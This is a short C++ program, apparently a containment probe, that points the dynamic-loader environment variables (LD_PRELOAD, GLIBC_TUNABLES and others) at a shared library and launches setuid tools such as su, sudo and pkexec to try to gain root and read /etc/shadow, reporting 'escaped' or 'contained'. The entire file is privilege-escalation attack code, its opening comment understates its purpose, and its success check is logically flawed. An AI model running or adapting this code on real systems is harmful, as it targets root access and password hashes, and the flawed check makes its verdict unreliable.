// Starts tools with a library of its own in front of all others.
#include <cstdio>
#include <cstdlib>
#include <initializer_list>
#include <sys/wait.h>
#include <unistd.h>

int main() {
  bool escaped = false;
  for (const char *name : {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "GCONV_PATH", "GLIBC_TUNABLES", "LD_DEBUG_OUTPUT"})
    setenv(name, "/home/x.so", 1);
  for (const char *tool : {"/bin/su", "/usr/bin/passwd", "/bin/mount", "/usr/bin/newgrp", "/usr/bin/sudo", "/usr/bin/pkexec"}) {
    int child = fork();
    if (child == 0) {
      freopen("/dev/null", "w", stdout);
      freopen("/dev/null", "w", stderr);
      execl("/bin/sh", "sh", "-c", "exec \"$0\" -c 'test $(id -u) = 0 && cat /etc/shadow' </dev/null", tool, nullptr);
      _exit(1);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (access("/etc/shadow", R_OK) == 0) escaped = true;
  }
  puts(escaped ? "escaped: reads the secrets" : "contained");
}
